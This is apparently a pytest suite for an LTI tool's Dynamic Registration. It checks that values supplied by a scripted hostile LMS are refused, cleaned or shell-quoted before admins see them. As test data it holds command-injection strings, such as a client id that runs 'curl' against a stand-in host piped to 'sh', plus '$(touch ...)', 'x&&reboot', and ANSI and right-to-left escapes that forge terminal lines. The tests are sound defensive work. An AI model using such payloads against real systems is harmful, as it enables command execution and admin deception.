"""What a registering LMS says about itself reaches the admin's terminal and pages only as harmless text.

Dynamic Registration runs for anyone with a one-time link, so its values come from whoever holds one: an id
with a control character or a space is refused, the name is cleaned, a command the admin is shown is quoted
for the shell, and a configuration with the wrong JSON types is refused with a reason rather than a bare 500.
The "evil" LMS is tests/evil.py's scripted server on loopback.
"""

from __future__ import annotations

import html
import re
import shlex

import pytest
import requests
import sqlalchemy as sa

from lti_tool.extensions import db
from lti_tool.models import Platform
from lti_tool.services.registry import add_platform
from tests.evil import EvilServer
from tests.lti.test_dynamic_registration import invite

TOOL_CONFIG = "https://purl.imsglobal.org/spec/lti-tool-configuration"
PLATFORM_CONFIG = "https://purl.imsglobal.org/spec/lti-platform-configuration"


def _lms(evil: EvilServer, *, issuer_path: str = "", client_id: str = "c1", deployment_id: str | None = "d1",
         **config) -> str:
    """Script the LMS's configuration and registration answer; return its issuer."""
    issuer = evil.origin + issuer_path
    evil.json("/.well-known/openid-configuration", {
        "issuer": issuer, "authorization_endpoint": evil.url("/auth"), "token_endpoint": evil.url("/token"),
        "jwks_uri": evil.url("/jwks"), "registration_endpoint": evil.url("/register"),
        "id_token_signing_alg_values_supported": ["RS256"], **config})
    evil.json("/register", {"client_id": client_id,
                            TOOL_CONFIG: {} if deployment_id is None else {"deployment_id": deployment_id}})
    return issuer


def _register(tool, evil: EvilServer, *, approved: bool = False) -> requests.Response:
    return requests.get(invite(tool, approved=approved),
                        params={"openid_configuration": evil.url("/.well-known/openid-configuration")}, timeout=30)


def _platforms(tool) -> list[Platform]:
    with tool.app.app_context():
        return list(db.session.scalars(sa.select(Platform).where(Platform.issuer.startswith("http://127.0.0.2"))))


def _shown_command(page: requests.Response, start: str) -> list[str]:
    """Return the words of the command the page shows as the admin's shell reads them: `;`, `|`, `&`, `(` and `)`
    outside quotes end a word (and start another command, or a subshell)."""
    found = re.search(r"<code>(" + re.escape(start) + r" [^<]*)</code>", page.text)
    assert found, page.text
    lexer = shlex.shlex(html.unescape(found[1]), posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


@pytest.mark.parametrize(("client_id", "deployment_id", "reason"), [
    ("abc\x00def", "d1", "bad_client_id"),  # PostgreSQL refuses NUL
    # A fake line in `pathways platform list` that looks approved, with an escape that erases the real one.
    ("real\r\x1b[2Khttps://trusted.example\tc\tTrusted LMS\tdeployments: d1", "d1", "bad_client_id"),
    ("two words", "d1", "bad_client_id"),
    ("c" * 256, "d1", "bad_client_id"),
    ("c1", "d\x1b[2K1", "bad_deployment_id"),
    ("c1", "d1\nhttps://trusted.example", "bad_deployment_id"),
    ("c1", "d\u202e1", "bad_deployment_id"),  # a right-to-left override reorders what the admin sees
])
def test_an_lms_granting_an_id_with_control_characters_or_spaces_is_refused_and_nothing_is_stored(
        tool, evil, client_id, deployment_id, reason):
    _lms(evil, client_id=client_id, deployment_id=deployment_id)
    page = _register(tool, evil)
    assert page.status_code == 502, page.text[:500]
    assert f"reason: {reason}" in page.text and "Nothing was registered" in page.text
    assert "\x1b" not in page.text and "trusted.example" not in page.text  # the LMS's words stay off the page
    assert _platforms(tool) == []


def test_a_clean_registration_from_the_same_lms_still_works_after_a_refused_one(tool, evil):
    _lms(evil, client_id="c\x001")
    assert _register(tool, evil).status_code == 502
    _lms(evil, client_id="10000000000001", deployment_id="7:0a1b2c")
    assert _register(tool, evil).status_code == 200
    (platform,) = _platforms(tool)
    assert platform.client_id == "10000000000001"


def test_the_approve_command_on_the_page_is_quoted_for_the_shell(tool, evil):
    # Printable and without spaces, so kept as given; quoted, it stays two arguments of one command.
    issuer = _lms(evil, issuer_path="/$(touch${IFS}/tmp/pwned)", client_id="x;curl${IFS}evil.example|sh")
    page = _register(tool, evil)
    assert page.status_code == 200, page.text[:500]
    assert _shown_command(page, "pathways platform approve") == [
        "pathways", "platform", "approve", issuer, "x;curl${IFS}evil.example|sh"]


def test_the_add_command_for_a_registration_without_a_deployment_is_quoted_and_keeps_the_audience(tool, evil):
    issuer = _lms(evil, issuer_path="/`id`", client_id="x&&reboot", deployment_id=None,
                  authorization_server="https://auth.example/token")
    page = _register(tool, evil)
    assert page.status_code == 200, page.text[:500]
    words = _shown_command(page, "pathways platform add")
    options = dict(zip(words[3::2], words[4::2], strict=True))
    assert words[:3] == ["pathways", "platform", "add"]
    assert options == {"--issuer": issuer, "--client-id": "x&&reboot", "--deployment-id": "DEPLOYMENT_ID",
                       "--login-url": evil.url("/auth"), "--token-url": evil.url("/token"),
                       "--jwks-url": evil.url("/jwks"),
                       # Without it, `platform add` would drop the audience the registration stored.
                       "--audience": "https://auth.example/token"}


def test_the_platform_name_from_the_lms_is_one_line_of_printable_text(tool, evil):
    _lms(evil, **{PLATFORM_CONFIG: {"product_family_code": "moodle\x1b[31m\r\nhttps://trusted.example\tx"}})
    assert _register(tool, evil).status_code == 200
    (platform,) = _platforms(tool)
    assert platform.name == f"moodle[31m https://trusted.example x ({evil.host}:{evil.port})"


def test_platform_list_escapes_what_an_older_row_holds_so_no_line_is_forged(tool):
    # A row stored before registration refused such values: the listing shows the escapes, one line per platform.
    with tool.app.app_context():
        add_platform(issuer="https://lms.example", client_id="real\r\x1b[2Kfake\tc", deployment_ids=["d\n1"],
                     login_url="https://lms.example/auth", token_url="https://lms.example/token",
                     jwks_url="https://lms.example/jwks", name="LMS\x1b[31m")
    out = tool.app.test_cli_runner().invoke(args=["platform", "list"]).output
    (line,) = [line for line in out.splitlines() if "lms.example" in line]
    assert line == "https://lms.example\treal\\r\\x1b[2Kfake\\tc\tLMS\\x1b[31m\tdeployments: d\\n1"
    assert "\x1b" not in out and "\r" not in out


@pytest.mark.parametrize(("config", "field"), [
    ({PLATFORM_CONFIG: ["not", "an", "object"]}, PLATFORM_CONFIG),
    ({"scopes_supported": 5}, "scopes_supported"),
    ({"scopes_supported": [{"a": 1}]}, "scopes_supported"),
    ({"id_token_signing_alg_values_supported": 256}, "id_token_signing_alg_values_supported"),
    ({PLATFORM_CONFIG: {"messages_supported": 7}}, "messages_supported"),
    ({PLATFORM_CONFIG: {"product_family_code": ["canvas"]}}, "product_family_code"),
])
def test_a_configuration_with_a_wrong_json_type_is_refused_with_a_reason(tool, evil, config, field):
    _lms(evil, **config)
    page = _register(tool, evil)
    assert page.status_code == 502, page.text[:500]
    assert f"gives {field} the wrong JSON type (reason: bad_configuration)" in page.text
    assert [path for _method, path, _headers in evil.hits] == ["/.well-known/openid-configuration"]
    assert _platforms(tool) == []


def test_a_configuration_with_null_optional_fields_registers(tool, evil):
    _lms(evil, scopes_supported=None, **{PLATFORM_CONFIG: {"messages_supported": None, "product_family_code": None}})
    assert _register(tool, evil).status_code == 200
    (platform,) = _platforms(tool)
    assert platform.name.startswith("LMS (")
